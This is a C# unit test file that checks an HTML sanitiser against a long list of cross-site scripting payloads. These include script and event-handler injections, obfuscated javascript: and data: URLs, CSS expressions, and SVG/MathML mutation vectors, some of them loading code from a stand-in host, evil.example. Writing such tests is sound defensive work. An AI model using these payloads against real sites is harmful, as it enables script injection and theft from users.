using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using CsCheck;
using Pipeline.Enrichment.Markup;
using Pipeline.Parsing.Html;

namespace Pipeline.Tests.Enrichment.Markup;

/// <summary>Nothing that can run survives. Judged on the markup as a browser would read it again, never on strings.</summary>
public class SanitisingTests
{
    private static readonly string[] Attacks =
    [
        // text and elements
        "<script>steal()</script>", "<SCRIPT/x>steal()</SCRIPT>", "<scr<script>ipt>steal()</script>", "<script\n>steal()</script\n>",
        "<<script>steal();//<</script>",
        "<script src=//evil.example/a.js></script>", "<object data=javascript:steal()>", "<embed src=javascript:steal()>",
        "<applet code=x>", "<base href=javascript:/x//>",
        "<meta http-equiv=refresh content='0;url=javascript:steal()'>", "<link rel=stylesheet href=javascript:steal()>",
        "<iframe src=javascript:steal()></iframe>",
        "<iframe srcdoc='<script>steal()</script>'></iframe>", "<frameset onload=steal()><frame src=javascript:steal()></frameset>",
        "<portal src=javascript:steal()></portal>",
        "<marquee onstart=steal()>x</marquee>", "<keygen autofocus onfocus=steal()>", "<dialog open onclose=steal()>x</dialog>",
        "<isindex action=javascript:steal()>",
        // attributes
        "<img src=x onerror=steal()>", "<img/src=x/onerror=steal()>", "<img src='x'onerror=steal()>",
        "<p onclick=steal() onmouseover=steal()>x", "<details open ontoggle=steal()>x</details>",
        "<a href=x onpointerrawupdate=steal()>x</a>", "<p OnFocus=steal() tabindex=1 autofocus>x", "<p on\tclick=steal()>x",
        "<img src=\"`\"onerror=steal()//`>", "<p style=x onanimationend=steal()>x",
        "<video><source onerror=steal()></video>", "<audio src=x onerror=steal()>", "<body onload=steal()>",
        "<input autofocus onfocus=steal()>", "<p title='\"><img src=x onerror=steal()>'>x",
        // addresses
        "<a href=javascript:steal()>x</a>", "<a href=' \u0001javascript:steal()'>x</a>", "<a href='java\tscript:steal()'>x</a>",
        "<a href='java&#10;script:steal()'>x</a>",
        "<a href='&#106;&#97;vascript&colon;steal()'>x</a>", "<a href='&#x6A;avascript:steal()'>x</a>", "<a href=JaVaScRiPt:steal()>x</a>",
        "<a href='vbscript:steal()'>x</a>",
        "<a href='data:text/html,<script>steal()</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        "<a href='blob:https://x/1'>x</a>", "<a href='feed:javascript:steal()'>x</a>",
        "<a href='view-source:javascript:steal()'>x</a>", "<a href='javascript&NewLine;:steal()'>x</a>", "<img src=javascript:steal()>",
        "<img srcset='javascript:steal() 1x'>", "<img src=x srcset=',javascript:steal() 2x'>",
        "<q cite=javascript:steal()>x</q>", "<a ping=javascript:steal() href=https://a.example>x</a>",
        "<img longdesc=javascript:steal() src=https://a.example/x>", "<table background=javascript:steal()><tr><td>x</table>",
        "<a href='https://a.example' xlink:href=javascript:steal()>x</a>", "<img src='data:image/svg+xml,<svg onload=steal()>'>",
        "<a href='//javascript:steal()'>x</a>",
        // forms
        "<form action=javascript:steal()><button>x</button></form>", "<button formaction=javascript:steal()>x</button>",
        "<form id=f></form><input type=submit form=f formaction=javascript:steal()>",
        "<form><input name=attributes><input name=parentNode></form>", "<a id=document name=cookie href=https://a.example>x</a>",
        "<textarea><img src=x onerror=steal()></textarea>", "<select><option><img src=x onerror=steal()></select>",
        // style
        "<style>@import 'javascript:steal()';</style>", "<p style='background:url(javascript:steal())'>x",
        "<p style='width:expression(steal())'>x", "<p style='-moz-binding:url(//evil.example)'>x",
        "<style><img src=x onerror=steal()></style>", "<p style='behavior:url(x.htc)'>x",
        "<style>*{x:'</style><img src=x onerror=steal()>'}</style>", "<p style='position:fixed;inset:0'>x",
        // SVG and MathML
        "<svg onload=steal()>", "<svg><script>steal()</script></svg>", "<svg><script href=data:,steal() /></svg>",
        "<svg><a xlink:href=javascript:steal()><text>x</text></a></svg>",
        "<svg><animate onbegin=steal() attributeName=x>", "<svg><set attributeName=href to=javascript:steal()>",
        "<svg><use href='data:image/svg+xml,<svg id=x>#x'>", "<svg><foreignObject><iframe src=javascript:steal()>",
        "<math href=javascript:steal()>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:steal()>x</maction></math>",
        "<math><mi xlink:href=javascript:steal()>x</mi></math>",
        // mutation and confusion of namespaces
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=steal()&gt;'>",
        "<svg></p><style><a id='</style><img src=1 onerror=steal()>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=steal()></annotation-xml></math>",
        "<noscript><p title='</noscript><img src=x onerror=steal()>'>", "<template><img src=x onerror=steal()></template>",
        "<template><template><script>steal()</script></template></template>", "<noembed><img src='</noembed><img src=x onerror=steal()>'>",
        "<xmp><p title='</xmp><img src=x onerror=steal()>'>", "<title><p title='</title><img src=x onerror=steal()>'>",
        "<plaintext><img src=x onerror=steal()>", "<!--><img src=x onerror=steal()>-->", "<!--<img src='--><img src=x onerror=steal()//'>",
        "<![CDATA[<img src=x onerror=steal()>]]>", "<svg><![CDATA[><img src=x onerror=steal()>]]></svg>",
        "<?xml-stylesheet href='javascript:steal()'?><p>x", "<p alttext='<script>'>x<math alttext='<img src=x onerror=steal()>'></math>",
        "<svg><desc><template><style></desc></svg><img src=x onerror=steal()>",
        "<svg><title><style><p id='</style><img src=x onerror=steal()>'></title></svg>",
        "<table><td><svg><desc><td></desc></svg><img src=x onerror=steal()></table>",
        "<svg><style><img src=x onerror=steal()></style></svg>", "<math><style><img src=x onerror=steal()></style></math>",
        "<svg><title><a href=javascript:steal()>x</a></title></svg>",
        "<math><annotation-xml encoding='application/xhtml+xml'><p onclick=steal()>x</annotation-xml></math>",
        "<math><annotation-xml><svg><foreignObject><img src=x onerror=steal()></foreignObject></svg></annotation-xml></math>",
        "<math><mtext><table><mglyph><style><math><table id='</table><img src onerror=steal()>'>",
        "<math><mi><li><table><mglyph><style><!--</style><img title='--&gt;&lt;/mglyph&gt;&lt;img src onerror=steal()&gt;'>",
        "<p><svg><style><!--</style><a title='--></style><img src onerror=steal()>'>x",
        "<b><noscript><!-- </noscript><img src onerror=steal()> -->", "<noscript><style></noscript><img src onerror=steal()>",
        "<textarea title='</textarea><img src onerror=steal()>'>", "<iframe><img title='</iframe><img src onerror=steal()>'></iframe>",
        "<noframes><img title='</noframes><img src onerror=steal()>'></noframes>",
        "<select><svg><style></select><img src onerror=steal()>", "<select><template><img src onerror=steal()></template></select>",
        "<table><caption><svg><style></caption><img src onerror=steal()></table>",
        "<form><div></form><form><svg><style></div><img src onerror=steal()>", "<form><form onsubmit=steal()><input></form></form>",
        "<a><table><td><a href=javascript:steal()>x</table>", "<!--->x<img src onerror=steal()>-->", "<!-- --!><img src onerror=steal()>",
        "<! x='><img src onerror=steal()>", "<? x='><img src onerror=steal()>", "</ x='><img src onerror=steal()>",
        "<svg><foreignObject><body onload=steal()>", "<svg><p><style><g title='</style><img src onerror=steal()>'>",
        // SVG that changes an address later, images under another name, and the elements of old browsers
        "<svg><a><animate attributeName=href values=javascript:steal()/><text>x</text></a></svg>",
        "<svg><a id=x></a><set href=#x attributeName=href to=javascript:steal()></svg>", "<svg><image href=x onerror=steal()></svg>",
        "<svg><feImage href='data:image/svg+xml,x'/></svg>", "<svg><handler type=text/javascript>steal()</handler></svg>",
        "<svg><discard onbegin=steal()></svg>", "<image src=x onerror=steal()>",
        "<picture><source srcset=javascript:steal()><img src=x onerror=steal()></picture>",
        "<video poster=javascript:steal()></video>", "<input type=image src=x onerror=steal()>",
        "<map name=m><area href=javascript:steal()></map><img usemap=#m src=https://a.example/x>", "<bgsound src=javascript:steal()>",
        "<layer src=javascript:steal()></layer>",
        "<xml id=x><a href=javascript:steal()>x</a></xml>", "<a href=https://a.example target=_blank rel=opener>x</a>",
        "<base href=//evil.example/ target=x>", "<link rel=import href=data:text/html,x>",
        "<object type=text/html data='data:text/html,x'></object>",
        // addresses that a browser reads more kindly than a parser
        "<a href='java\0script:steal()'>x</a>", "<a href='&#14; javascript:steal()'>x</a>", "<a href='jav&#x0D;ascript:steal()'>x</a>",
        "<a href='&#0000106avascript:steal()'>x</a>", "<a href='\\javascript:steal()'>x</a>", "<a href='javascript&#x3A;steal()'>x</a>",
        "<a href='https:javascript:steal()'>x</a>", "<a href='javascript://a.example/%0Asteal()'>x</a>",
        "<a href='data:image/svg+xml;charset=utf-7,+ADw-svg onload+AD0-steal()+AD4-'>x</a>",
        "<meta charset=utf-7>+ADw-script+AD4-steal()+ADw-/script+AD4-",
        // style
        "<style>p{background:url(javascript:steal())}</style>", "<p style='x:expr/**/ession(steal())'>x",
        "<p style='list-style-image:url(\"javascript:steal()\")'>x", "<p style='color:red;}</style><img src onerror=steal()>'>x",
        "<link rel=stylesheet href='data:text/css,*{x:expression(steal())}'>",
        // names that hide the document's own
        "<img name=getElementById src=https://a.example/x>", "<a id=x><a id=x name=y href=https://a.example>x</a>",
        "<form name=document><input name=cookie></form>", "<p id=__proto__ class=x>x</p>", "<object id=location name=top>x</object>",
        "<listing>&lt;img onerror=steal() src=x&gt;</listing>", "<a href='https://a.example/\"onmouseover=steal()'>x</a>",
        "<img alt='`><script>steal()</script>' src=https://a.example/x>",
    ];

    public static TheoryData<string> Cases => [.. Attacks];

    [Theory]
    [MemberData(nameof(Cases))]
    public void Nothing_that_can_run_survives(string attack) =>
        AssertHarmless(ArticleMarkup.Read($"<p>before {attack} <p>after", "https://a.example/news/1").Html);

    [Fact]
    public void Attacks_inside_and_beside_each_other_do_not_survive_either() =>
        Gen.OneOf([.. Attacks.Concat(
            ["<p>", "</p>", "<b>", "<table>", "<tr><td>", "</table>", "<a href=/x>", "text", "<svg>", "</svg>", "<math>", "</math>", "\"",
                "'", ">", "<!--", "-->", "<ul><li>"]).Select(Gen.Const)])
            .Array[1, 6]
            .Sample(parts => AssertHarmless(ArticleMarkup.Read(string.Concat(parts), "https://a.example/").Html), iter: 400);

    // The bound on depth moves content out of its parents: a style element that was foreign becomes another thing.
    [Theory]
    [InlineData("<svg><style><!--</style><img title='--><img src onerror=steal()>'>")]
    [InlineData("<math><mtext><mglyph><style><img src onerror=steal()></style>")]
    [InlineData("<svg></p><style><a id='</style><img src=1 onerror=steal()>'>")]
    public void Nothing_survives_beyond_the_depth_that_is_kept(string attack)
    {
        foreach (var depth in new[] { HtmlBounds.Article.Depth - 3, HtmlBounds.Article.Depth - 1, HtmlBounds.Article.Depth,
            2 * HtmlBounds.Article.Depth })
            AssertHarmless(ArticleMarkup.Read(string.Concat(Enumerable.Repeat("<div>", depth)) + attack, "https://a.example/").Html);
    }

    private static void AssertHarmless(string html)
    {
        var body = new HtmlParser(new HtmlParserOptions { IsScripting = true }).ParseDocument(html).Body!;
        Assert.Equal(html, body.InnerHtml);
        foreach (var element in body.Descendants<IElement>())
        {
            Assert.Contains(element.LocalName, AllowList.Elements);
            Assert.Equal("http://www.w3.org/1999/xhtml", element.NamespaceUri);
            foreach (var attribute in element.Attributes)
            {
                Assert.Contains(attribute.Name, AllowList.Attributes);
                if (attribute.Name is "href" or "src" or "cite")
                    Assert.Contains(new Uri(attribute.Value).Scheme, AllowList.Schemes);
            }
        }

        // Read, clean and write again: a text that changed could turn into something else in a reader's browser.
        Assert.Equal(html, ArticleMarkup.Read(html, "https://a.example/").Html);
    }
}
